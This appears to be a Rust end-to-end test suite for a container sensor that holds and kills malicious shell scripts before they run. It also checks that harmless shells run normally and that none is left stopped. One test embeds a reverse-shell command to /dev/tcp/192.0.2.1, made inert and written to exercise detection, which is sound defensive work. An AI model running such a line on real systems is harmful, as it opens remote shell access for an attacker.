//! `--respond hold`: nothing of a malicious script runs, harmless ones run as ever, and nobody is left stopped.

use std::{
    collections::HashMap,
    fs,
    os::unix::process::{CommandExt, ExitStatusExt},
    path::Path,
    process::{Child, Command},
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use nix::{
    sys::{
        ptrace,
        signal::Signal,
        wait::{Id, WaitPidFlag, WaitStatus, waitid, waitpid},
    },
    unistd::Pid,
};

use e2e::{
    cgroup::{Cgroup, enter},
    daemon::{is_emulated, patience, scaled},
    drill::{malice, property},
    node::Node,
    shell::quiet,
    terminal::Terminal,
};

const POD: &str = "kubepods/burstable/pod6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f71";
/// How long a shell may take whose sensor hangs: the deadline (50 ms), what the second process waits on top, and what a test's
/// machine needs to run anybody.
const LATE: Duration = Duration::from_millis(600);

fn container(number: u32) -> Cgroup {
    Cgroup::make(&format!("{POD}/{number:064x}"))
}

/// Runs shells in the container until they are held: the first of a cgroup that has no PID namespace of its own is not, since it is
/// not known yet to be of a container.
fn wait_for_holds(node: &Node, cgroup: &Cgroup) {
    let holds = || node.reading("kernel_holds_total").expect("a counter");
    let before = holds();
    let is_held = || inside(cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
    node.wait_until(is_held).expect("shells are held");
}

/// Malicious by any model, and inert: `:` runs instead. Its first command makes the file `marker`.
fn attack(name: &str, marker: &Path) -> String {
    format!("echo > {}; {}\n", marker.display(), malice(name))
}

/// A command in the container. Nobody that the test's shell is a job of is to notice a stop.
fn inside(cgroup: &Cgroup, program: &str, args: &[&str]) -> Command {
    let mut command = quiet(program);
    command.args(args);
    enter(&mut command, &cgroup.procs());
    command
}

/// The state of a process as /proc has it, `None` when it is gone.
fn state(pid: u32) -> Option<char> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(')')?.1.trim_start().chars().next()
}

/// Stops the sensor, and then starts a shell that is held: the sensor's last sign of life is not too old yet.
fn start_held(node: &Node, cgroup: &Cgroup, marker: &Path) -> Child {
    let text = format!("echo > {}", marker.display());
    for _ in 0..20 {
        node.sensor.signal(libc::SIGSTOP);
        while state(node.sensor.pid()) != Some('T') {
            std::hint::spin_loop();
        }
        let mut child = inside(cgroup, "/bin/bash", &["-c", &text]).spawn().expect("a shell");
        loop {
            match state(child.id()) {
                Some('T') if !marker.exists() => return child,
                // The machine was busy: the shell was not held, or went on before anybody looked.
                Some('Z') | None => break,
                _ => std::hint::spin_loop(),
            }
        }
        child.wait().expect("its end");
        fs::remove_file(marker).expect("it ran");
        node.sensor.signal(libc::SIGCONT);
        let holds = || node.reading("kernel_holds_total").expect("a counter");
        let before = holds();
        let is_held_again = || inside(cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
        node.wait_until(is_held_again).expect("the sensor is back");
    }
    panic!("no shell is held\n{}", node.log());
}

#[test]
fn nothing_of_a_malicious_script_runs_however_it_comes() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd1);
    let marker = |name: &str| node.path(&format!("ran-{name}"));
    wait_for_holds(&node, &cgroup);
    let file = |name: &str| {
        let text = attack(name, &marker(name));
        node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file").display().to_string()
    };
    let mut killed = Vec::new();
    let mut run = |name: &str, mut command: Command| {
        let status = command.status().expect("a shell");
        killed.push((name.to_owned(), status, marker(name).exists()));
    };
    for shell in ["bash", "dash"] {
        let program = format!("/bin/{shell}");
        let name = format!("{shell}-file");
        run(&name, inside(&cgroup, &program, &[&file(&name)]));
        let name = format!("{shell}-command");
        run(&name, inside(&cgroup, &program, &["-c", &attack(&name, &marker(&name))]));
        let name = format!("{shell}-piped");
        let mut piped = inside(&cgroup, &program, &[]);
        piped.stdin(fs::File::open(file(&name)).expect("a file"));
        run(&name, piped);
        let name = format!("{shell}-sourced");
        run(&name, inside(&cgroup, &program, &["-c", &format!(". {}", file(&name))]));
        // By the shell's own commands: no fork is needed to read the text.
        let name = format!("{shell}-evaluated");
        let text = format!("read -r line < {}; eval \"$line\"", file(&name));
        run(&name, inside(&cgroup, &program, &["-c", &text]));
    }
    // A subshell is held by itself.
    let name = "bash-subshell-evaluated";
    let text = format!("read -r line < {}; (eval \"$line\"; :)", file(name));
    run(name, inside(&cgroup, "/bin/bash", &["-c", &text]));
    let name = "bash-pipe";
    let mut cat = Command::new("cat");
    let mut cat = cat.arg(file(name)).stdout(std::process::Stdio::piped()).spawn().expect("cat");
    let mut piped = inside(&cgroup, "/bin/bash", &[]);
    piped.stdin(cat.stdout.take().expect("a pipe"));
    run(name, piped);
    cat.wait().expect("its end");
    let findings = node.wait_for(|all| all.len() >= killed.len()).expect("findings");
    // An emulated machine now and then keeps the sensor from saying in time that it is alive, or from judging in time. Who is
    // not held for it is counted, and found all the same.
    let mut not_held = Vec::new();
    for (name, status, ran) in &killed {
        let ran_before = property(&findings, name, "Response_Ran_Before");
        if ran_before == "unknown" {
            not_held.push((name, ran, property(&findings, name, "Response_Action")));
            continue;
        }
        assert!(!ran, "{name} ran\n{}", node.log());
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}");
        assert_eq!(property(&findings, name, "Response_Action"), "killed", "{name}");
        // What sourced or evaluated it had run.
        let expected =
            if name.ends_with("sourced") || name.ends_with("evaluated") { "part" } else { "nothing" };
        assert_eq!(ran_before, expected, "{name}");
        assert!(
            property(&findings, name, "Response_Held_Ms").as_f64().is_some_and(|ms| ms < 1_000.0),
            "{name}"
        );
    }
    let outcome = node.finish().expect("an outcome");
    let missed =
        outcome.total("holds_total{outcome=\"timed_out\"}") + outcome.total("kernel_holds_stale_total");
    assert!(not_held.len() as u64 <= missed, "{not_held:?} were not held, and {missed} are counted");
    assert!(missed == 0 || is_emulated(), "{missed} were not held");
}

#[test]
fn what_looks_like_a_glance_or_like_data_is_held_when_it_is_run() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd6);
    wait_for_holds(&node, &cgroup);
    let run = |mut command: Command| {
        let status = command.current_dir(node.dir.path()).status().expect("a shell");
        assert!(!node.path("m").exists(), "it ran\n{}", node.log());
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{status}\n{}", node.log());
    };
    // bash looks at the first 80 bytes of a file before it reads it. Here that is all of it.
    let text = format!("{:79}\n", "echo>m; : || bash -i >& /dev/tcp/192.0.2.1/44 0>&1; #");
    assert_eq!(text.len(), 80);
    let file = node.file("eighty.sh", text.as_bytes()).expect("a file").display().to_string();
    run(inside(&cgroup, "/bin/bash", &[&file]));
    // What one shell reads as data another one in its place, or a later command, runs.
    let lines = node.file("lines", format!("data\n{}", attack("lines", &node.path("m"))).as_bytes());
    let lines = lines.expect("a file").display().to_string();
    for shell in ["bash", "dash"] {
        let program = format!("/bin/{shell}");
        let mut cat =
            Command::new("cat").arg(&lines).stdout(std::process::Stdio::piped()).spawn().expect("cat");
        let mut piped = inside(&cgroup, &program, &["-c", &format!("read -r x; exec {shell}")]);
        piped.stdin(cat.stdout.take().expect("a pipe"));
        run(piped);
        cat.wait().expect("its end");
    }
    // A binary of many programs, seen for the first time.
    let copy = node.path("busybox");
    fs::copy("/bin/busybox", &copy).expect("a copy");
    let many = node.file("many.sh", attack("many", &node.path("m")).as_bytes()).expect("a file");
    run(inside(&cgroup, &copy.to_string_lossy(), &["sh", &many.to_string_lossy()]));
    let evil = node.file("evil", attack("evil", &node.path("m")).as_bytes()).expect("a file");
    run(inside(&cgroup, "/bin/dash", &["-c", &format!("read -r x < {0}; . {0}", evil.display())]));
    node.finish().expect("an outcome");
}

#[test]
fn nothing_deep_in_a_long_script_runs_unjudged() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xdd);
    wait_for_holds(&node, &cgroup);
    let filler = |bytes: usize| ": one more harmless line of a long script\n".repeat(bytes / 42);
    for (shell, name) in [("/bin/bash", "bash"), ("/bin/dash", "dash")] {
        let marker = node.path(&format!("ran-{name}"));
        let before = node.path(&format!("before-{name}"));
        // In the middle of a block, far from where the text doubles.
        let text = format!(
            "echo > {}\n{}{}{}",
            before.display(),
            filler(150_000),
            attack(name, &marker),
            filler(60_000)
        );
        let file = node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file");
        let status = inside(&cgroup, shell, &[&file.to_string_lossy()]).status().expect("a shell");
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}\n{}", node.log());
        assert!(before.exists() && !marker.exists(), "{name}\n{}", node.log());
        let name = format!("{name}-lines");
        let marker = node.path(&format!("ran-{name}"));
        let text = format!("{}{}{}", filler(30_000), attack(&name, &marker), filler(5_000));
        let mut cat = Command::new("cat")
            .arg(node.file(&name, text.as_bytes()).expect("a file"))
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("cat");
        let mut piped = inside(&cgroup, shell, &[]);
        let status = piped.stdin(cat.stdout.take().expect("a pipe")).status().expect("a shell");
        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}\n{}", node.log());
        assert!(!marker.exists(), "{name}\n{}", node.log());
        cat.wait().expect("its end");
    }
    let findings = node.wait_for(|all| all.len() >= 4).expect("findings");
    for name in ["bash", "dash", "bash-lines", "dash-lines"] {
        assert_eq!(property(&findings, name, "Response_Action"), "killed");
        assert_eq!(property(&findings, name, "Response_Ran_Before"), "part", "{name}");
    }
    node.finish().expect("an outcome");
}

#[test]
fn a_line_typed_at_a_terminal_is_held_before_it_runs() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    node.file(".bashrc", b"PS1='READY> '\n").expect("a file");
    let cgroup = container(0xd7);
    wait_for_holds(&node, &cgroup);
    for (program, args) in [("/bin/bash", &["-i"][..]), ("/bin/dash", &["-i"])] {
        let name = program.trim_start_matches("/bin/");
        let marker = node.path(&format!("ran-{name}"));
        let mut terminal =
            Terminal::start_in(Some(&cgroup.procs()), program, args, node.dir.path()).expect("a terminal");
        terminal.enter(b"echo hello\r").expect("a prompt");
        let line = attack(name, &marker).replace('\n', "\r");
        terminal.leave(line.as_bytes()).expect("its end");
        assert!(!marker.exists(), "{name}\n{}", node.log());
    }
    let findings = node.wait_for(|all| all.len() >= 2).expect("findings");
    for name in ["bash", "dash"] {
        assert_eq!(property(&findings, name, "Response_Action"), "killed");
        assert_eq!(property(&findings, name, "Response_Ran_Before"), "part");
    }
    node.finish().expect("an outcome");
}

#[test]
fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
    let node = Node::start(&["--respond", "hold", "--threshold", "0.99"]).expect("a node");
    let cgroup = container(0xd2);
    let output = |mut command: Command| {
        let output = command.stdout(std::process::Stdio::piped()).output().expect("a shell");
        assert!(output.status.success(), "{:?}\n{}", output.status, node.log());
        String::from_utf8(output.stdout).expect("UTF-8")
    };
    let data = node.file("data", "one\ntwo\n".repeat(200).as_bytes()).expect("a file");
    let read = format!("cat {} | {{ n=0; while read -r l; do n=$((n+1)); done; echo $n; }}", data.display());
    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", &read])), "400\n");
    assert_eq!(output(inside(&cgroup, "/bin/dash", &["-c", &read])), "400\n");
    // With job control a parent would take a stop for the end of its job: it is not stopped.
    let jobs = "set -m; bash -c 'echo job'; bash -c 'echo other' & wait; jobs";
    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", jobs])), "job\nother\n");
    let noticed = node.reading("kernel_holds_noticed_total").expect("a counter");
    assert!(noticed > 0);
    // It stops itself when its child is stopped, and waits for somebody to continue it.
    if Path::new("/bin/su").exists() {
        let user = inside(&cgroup, "su", &["root", "-s", "/bin/bash", "-c", "echo user"]);
        assert_eq!(output(user), "user\n");
        assert!(node.reading("kernel_holds_noticed_total").expect("a counter") > noticed);
    } else {
        eprintln!("there is no su in this guest: not tried");
    }
    let before = node.reading("kernel_holds_total").expect("a counter");
    assert!(before > 0);
    // The node's own shells.
    for _ in 0..20 {
        assert!(quiet("/bin/bash").args(["-c", ":"]).status().expect("a shell").success());
    }
    assert_eq!(node.reading("kernel_holds_total").expect("a counter"), before);
    node.finish().expect("an outcome");
}

/// Makes the process that is about to execute the first of a PID namespace of its own. Its parent, which waits for it, stays where
/// it is, as a container's does.
fn begin_namespace() -> std::io::Result<()> {
    // SAFETY: between fork and exec, with system calls only.
    unsafe {
        if libc::unshare(libc::CLONE_NEWPID) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        match libc::fork() {
            0 => Ok(()),
            child => {
                let mut status = 0;
                libc::waitpid(child, &raw mut status, 0);
                let killed = libc::WIFSIGNALED(status);
                libc::_exit(if killed { 128 + libc::WTERMSIG(status) } else { libc::WEXITSTATUS(status) })
            }
        }
    }
}

#[test]
fn a_containers_first_process_is_held_and_left_alive() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd7);
    wait_for_holds(&node, &cgroup);
    let marker = node.path("ran");
    let text = attack("first", &marker);
    let mut command = quiet("/bin/bash");
    command.args(["-c", &text]);
    // SAFETY: see there.
    unsafe { command.pre_exec(begin_namespace) };
    enter(&mut command, &cgroup.procs());
    let status = command.status().expect("a shell");
    // It was judged before it ran, and goes on: killing it would end the container.
    assert_eq!(status.code(), Some(0), "{}", node.log());
    assert!(marker.exists());
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(property(&findings, "first", "Response_Action"), "left_init");
    assert_eq!(property(&findings, "first", "Response_Ran_Before"), "nothing");
    assert_eq!(node.finish().expect("an outcome").total("holds_total{outcome=\"timed_out\"}"), 0);
}

#[test]
fn a_debugger_notices_nothing_of_holds() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd8);
    wait_for_holds(&node, &cgroup);
    let text = format!("{}; sleep 60", attack("traced", &node.path("ran")).trim_end());
    let mut command = inside(&cgroup, "/bin/bash", &["-c", &text]);
    // SAFETY: a plain system call between fork and exec.
    unsafe { command.pre_exec(|| ptrace::traceme().map_err(Into::into)) };
    let mut child = command.spawn().expect("a shell");
    let pid = Pid::from_raw(i32::try_from(child.id()).expect("a process id"));
    // Not held: a stop would look to the debugger as if somebody had sent a signal. Killed at its verdict.
    loop {
        match waitpid(pid, None).expect("the shell's state") {
            WaitStatus::Stopped(_, Signal::SIGTRAP) => ptrace::cont(pid, None).expect("it goes on"),
            WaitStatus::Stopped(_, signal) => {
                assert_ne!(signal, Signal::SIGCONT, "it was stopped and continued");
                // The kill stops what it ends, too.
                let _ = ptrace::cont(pid, signal);
            }
            WaitStatus::Signaled(_, signal, _) => {
                assert_eq!(signal, Signal::SIGKILL);
                break;
            }
            WaitStatus::Exited(_, code) => panic!("it exited with {code}\n{}", node.log()),
            _ => {}
        }
    }
    // It was waited for above.
    let _ = child.wait();
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(property(&findings, "traced", "Response_Ran_Before"), "unknown");
    assert!(node.finish().expect("an outcome").total("kernel_holds_noticed_total") > 0);
}

#[test]
fn nobody_is_left_stopped() {
    let node = Node::start(&["--respond", "hold"]).expect("a node");
    let cgroup = container(0xd3);
    wait_for_holds(&node, &cgroup);
    let marker = |name: &str| node.path(&format!("ran-{name}"));

    // The sensor hangs: its second process continues the shell, and later ones are not stopped.
    let mut held = start_held(&node, &cgroup, &marker("hung"));
    let begun = Instant::now();
    assert!(held.wait().expect("its end").success());
    assert!(begun.elapsed() < LATE, "{:?}", begun.elapsed());
    assert!(marker("hung").exists());
    std::thread::sleep(Duration::from_millis(200));
    let begun = Instant::now();
    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
    assert!(begun.elapsed() < LATE, "{:?}", begun.elapsed());
    node.sensor.signal(libc::SIGCONT);
    wait_for_holds(&node, &cgroup);

    // It is killed: likewise.
    let mut held = start_held(&node, &cgroup, &marker("killed"));
    node.sensor.signal(libc::SIGKILL);
    assert!(held.wait().expect("its end").success());
    assert!(marker("killed").exists());
}

/// Continues a process again and again until it has ended, from two threads.
fn continue_without_end(child: &mut Child) -> std::process::ExitStatus {
    let pid = i32::try_from(child.id()).expect("a process id");
    let is_over = AtomicBool::new(false);
    std::thread::scope(|threads| {
        for _ in 0..2 {
            threads.spawn(|| {
                while !is_over.load(Ordering::Relaxed) {
                    // SAFETY: a plain system call on a child of this test that nobody has waited for.
                    unsafe { libc::kill(pid, libc::SIGCONT) };
                }
            });
        }
        // It is not reaped before the threads have ended: until then nobody else can have its id.
        waitid(Id::Pid(Pid::from_raw(pid)), WaitPidFlag::WEXITED | WaitPidFlag::WNOWAIT).expect("its end");
        is_over.store(true, Ordering::Relaxed);
    });
    child.wait().expect("its end")
}

#[test]
fn who_is_held_stays_so_whoever_continues_it() {
    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xd9);
    wait_for_holds(&node, &cgroup);
    let rounds = scaled(40);
    let (mut ran, mut not_killed) = (0, 0);
    for round in 0..rounds {
        let marker = node.path(&format!("ran-{round}"));
        let shell = if round % 2 == 0 { "/bin/bash" } else { "/bin/dash" };
        let text = attack(&format!("continued-{round}"), &marker);
        let mut child = inside(&cgroup, shell, &["-c", &text]).spawn().expect("a shell");
        let status = continue_without_end(&mut child);
        ran += u64::from(marker.exists());
        not_killed += u64::from(status.signal() != Some(libc::SIGKILL));
    }
    // Those that are harmless go on, and end.
    for round in 0..rounds {
        let mut child = inside(&cgroup, "/bin/bash", &["-c", &format!("exit {}", round % 9)]).spawn();
        let status = continue_without_end(child.as_mut().expect("a shell"));
        assert_eq!(status.code(), i32::try_from(round % 9).ok());
    }
    // Without a program at the kernel's own functions some instructions run after each signal.
    let leaks = !node.log().contains("kept so at get_signal");
    let outcome = node.finish().expect("an outcome");
    // As above: an emulated machine now and then keeps the sensor from its work.
    let missed =
        outcome.total("holds_total{outcome=\"timed_out\"}") + outcome.total("kernel_holds_stale_total");
    assert!(missed == 0 || is_emulated(), "{missed} were not held");
    let missed = if leaks { missed + rounds as u64 / 4 } else { missed };
    assert!(
        ran.max(not_killed) <= missed,
        "{ran} ran, {not_killed} were not killed, and {missed} are counted"
    );
    assert!(outcome.total("kernel_holds_kept_total") > 0);
    assert_eq!(outcome.total("kernel_holds_failed_total"), 0);
}

/// One thread of a process, stopped as by a debugger; the others go on.
struct StoppedThread(Pid);

impl StoppedThread {
    fn of(process: u32, name: &str) -> Self {
        let mut tasks = fs::read_dir(format!("/proc/{process}/task")).expect("threads").flatten();
        let is_it = |task: &fs::DirEntry| {
            fs::read_to_string(task.path().join("comm")).is_ok_and(|comm| comm.trim() == name)
        };
        let task = tasks.find(is_it).expect("the thread");
        let tid = task.file_name().to_string_lossy().parse().expect("a thread id");
        let tid = Pid::from_raw(tid);
        ptrace::seize(tid, ptrace::Options::empty()).expect("a trace");
        ptrace::interrupt(tid).expect("a stop");
        waitpid(tid, Some(WaitPidFlag::__WALL)).expect("its stop");
        Self(tid)
    }
}

impl Drop for StoppedThread {
    fn drop(&mut self) {
        let _ = ptrace::detach(self.0, None);
    }
}

#[test]
fn while_nothing_is_judged_shells_go_on_after_the_deadline_and_then_are_not_stopped() {
    let node = Node::start(&["--respond", "hold"]).expect("a node");
    let (cgroup, other) = (container(0xda), container(0xdb));
    wait_for_holds(&node, &cgroup);
    wait_for_holds(&node, &other);
    let count = |name: &str| node.reading(name).expect("a counter");
    let scoring = StoppedThread::of(node.sensor.pid(), "scoring");
    let marker = node.path("ran-late");
    let begun = Instant::now();
    let mut late = inside(&cgroup, "/bin/bash", &["-c", &attack("late", &marker)]).spawn().expect("a shell");
    assert!(late.wait().expect("its end").success());
    assert!(marker.exists() && begun.elapsed() < LATE, "{:?}", begun.elapsed());
    // After sixteen of them within a second its shells are not stopped for a while; those of others are.
    let mut shells: Vec<Child> = (0..20)
        .map(|i| inside(&cgroup, "/bin/bash", &["-c", &format!(": {i}")]).spawn().expect("a shell"))
        .collect();
    for shell in &mut shells {
        assert!(shell.wait().expect("its end").success());
    }
    node.wait_until(|| count("hold_pauses_total") == 1).expect("a pause");
    let before = count("kernel_holds_total");
    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
    assert_eq!(count("kernel_holds_total"), before, "{}", node.log());
    assert!(inside(&other, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
    assert!(count("kernel_holds_total") > before);
    assert!(count("holds_total{outcome=\"timed_out\"}") > 16);
    drop(scoring);
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(property(&findings, "late", "Response_Hold_Timed_Out"), true);
    assert_eq!(property(&findings, "late", "Response_Ran_Before"), "unknown");
    node.finish().expect("an outcome");
}

/// A memory cgroup of version 1, the only one in which a limit can be tried here.
const MEMORY: &str = "/sys/fs/cgroup/memory";

#[test]
fn a_sensor_that_runs_out_of_memory_leaves_nobody_stopped() {
    if !Path::new(MEMORY).join("memory.limit_in_bytes").exists() {
        eprintln!("there is no memory controller of cgroup v1: not tried");
        return;
    }
    let mut node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
    let cgroup = container(0xdc);
    wait_for_holds(&node, &cgroup);
    let own = Path::new(MEMORY).join(format!("scriptwatch-test-{}", node.sensor.pid()));
    fs::create_dir(&own).expect("a cgroup");
    for pid in
        [i32::try_from(node.sensor.pid()).expect("a process id")].into_iter().chain(guards(node.sensor.pid()))
    {
        fs::write(own.join("cgroup.procs"), pid.to_string()).expect("it is moved");
    }
    // What was allocated before is charged elsewhere.
    fs::write(own.join("memory.limit_in_bytes"), "4M").expect("a limit");
    let mut stops = Stops::default();
    let mut shells: Vec<Child> = Vec::new();
    for i in 0..40 {
        let text = format!(": {i}\n").repeat(100_000);
        let file = node.file(&format!("{i}.sh"), text.as_bytes()).expect("a file");
        shells.push(inside(&cgroup, "/bin/bash", &[&file.to_string_lossy()]).spawn().expect("a shell"));
    }
    let begun = Instant::now();
    while !shells.is_empty() {
        shells.retain_mut(|shell| {
            stops.look(shell.id());
            let Some(status) = shell.try_wait().expect("a child") else { return true };
            assert!(status.success(), "{status}");
            false
        });
        assert!(begun.elapsed() < patience(), "some are left stopped\n{}", node.log());
    }
    let ended = node.sensor.end().expect("the sensor's end");
    assert_eq!(ended.signal(), Some(libc::SIGKILL), "it was not ended: {ended}\n{}", node.log());
    assert!(stops.longest < LATE + Duration::from_secs(1), "{:?}", stops.longest);
    let _ = fs::remove_dir(&own);
}

/// Process ids of the second processes of a sensor.
fn guards(sensor: u32) -> Vec<i32> {
    let children = fs::read_to_string(format!("/proc/{sensor}/task/{sensor}/children")).unwrap_or_default();
    let tasks = fs::read_dir(format!("/proc/{sensor}/task")).into_iter().flatten().flatten();
    let all = tasks.filter_map(|task| fs::read_to_string(task.path().join("children")).ok());
    let pids = all.chain([children]).collect::<Vec<_>>().join(" ");
    let mut pids: Vec<i32> = pids.split_whitespace().filter_map(|pid| pid.parse().ok()).collect();
    pids.dedup();
    pids
}

#[test]
fn the_next_sensor_continues_whom_two_killed_processes_left() {
    let mut node = Node::start(&["--respond", "hold"]).expect("a node");
    let cgroup = container(0xd4);
    wait_for_holds(&node, &cgroup);
    let marker = node.path("ran-left");
    let guard = *guards(node.sensor.pid()).first().expect("a second process");
    // SAFETY: plain system calls on a child of the sensor that this test started.
    unsafe { libc::kill(guard, libc::SIGSTOP) };
    let mut held = start_held(&node, &cgroup, &marker);
    node.sensor.signal(libc::SIGKILL);
    // SAFETY: as above.
    unsafe { libc::kill(guard, libc::SIGKILL) };
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(state(held.id()), Some('T'), "nobody is there to continue it");
    node.restart_sensor().expect("a sensor");
    assert!(held.wait().expect("its end").success());
    assert!(marker.exists());
    assert!(
        node.log().contains("1 shells were continued that an earlier sensor had stopped"),
        "{}",
        node.log()
    );
    node.sensor.stop().expect("its end");
}

/// How long processes were seen stopped without a break, at most.
#[derive(Default)]
struct Stops {
    /// Since when, and how often it had left a processor by then.
    since: HashMap<u32, (String, Instant)>,
    longest: Duration,
}

impl Stops {
    fn look(&mut self, pid: u32) {
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let field = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).unwrap_or("").trim();
        if !field("State:").starts_with('T') {
            self.since.remove(&pid);
            return;
        }
        // One that ran and was stopped again has left a processor once more.
        let switches = field("voluntary_ctxt_switches:");
        let stop = self.since.entry(pid).or_insert_with(|| (switches.to_owned(), Instant::now()));
        if stop.0 != switches {
            *stop = (switches.to_owned(), Instant::now());
        }
        self.longest = self.longest.max(stop.1.elapsed());
    }
}

/// Shells that get signals from others, and a sensor that hangs now and then. `SCRIPTWATCH_TEST_RUNS` shells, in batches.
#[test]
fn shells_that_others_meddle_with_end_as_they_would() {
    const BATCH: usize = 50;
    let node = Node::start(&["--respond", "hold"]).expect("a node");
    let cgroup = container(0xd5);
    wait_for_holds(&node, &cgroup);
    let runs = std::env::var("SCRIPTWATCH_TEST_RUNS").ok().and_then(|runs| runs.parse().ok());
    let runs = runs.unwrap_or_else(|| scaled(300));
    let mut stops = Stops::default();
    for batch in 0..runs.div_ceil(BATCH) {
        let mut children: Vec<(usize, Child)> = Vec::new();
        for round in batch * BATCH..runs.min((batch + 1) * BATCH) {
            let text = format!("eval ': {round}'; eval 'exit {}'", round % 7);
            let shell = if round % 3 == 0 { "/bin/dash" } else { "/bin/bash" };
            let mut command = inside(&cgroup, shell, &["-c", &text]);
            if round % 5 == 0 {
                command.process_group(0);
            }
            let child = command.spawn().expect("a shell");
            let pid = i32::try_from(child.id()).expect("a process id");
            let signal = match round % 4 {
                0 => Some(libc::SIGCONT),
                1 => Some(libc::SIGKILL),
                _ => None,
            };
            if let Some(signal) = signal {
                // SAFETY: a plain system call on a child of this test that nobody has waited for.
                unsafe { libc::kill(pid, signal) };
            }
            children.push((round, child));
            if round % BATCH == 20 && batch % 2 == 1 {
                node.sensor.signal(libc::SIGSTOP);
            }
        }
        let begun = Instant::now();
        while !children.is_empty() {
            if begun.elapsed() > Duration::from_millis(200) {
                node.sensor.signal(libc::SIGCONT);
            }
            children.retain_mut(|(round, child)| {
                stops.look(child.id());
                let Some(status) = child.try_wait().expect("a child") else { return true };
                let expected = i32::try_from(*round % 7).expect("a small number");
                let is_as_expected =
                    status.code() == Some(expected) || *round % 4 == 1 && status.signal().is_some();
                assert!(is_as_expected, "{round}: {status}");
                false
            });
            assert!(begun.elapsed() < patience(), "some are left stopped\n{}", node.log());
        }
        node.sensor.signal(libc::SIGCONT);
    }
    let outcome = node.finish().expect("an outcome");
    assert!(outcome.total("kernel_holds_total") > 0);
    assert_eq!(outcome.total("kernel_holds_failed_total"), 0);
    let timed_out = outcome.total("holds_total{outcome=\"timed_out\"}");
    eprintln!(
        "{} holds, {timed_out} timed out, the longest stop {:?}",
        outcome.total("kernel_holds_total"),
        stops.longest
    );
    assert!(stops.longest < LATE, "{:?}", stops.longest);
}
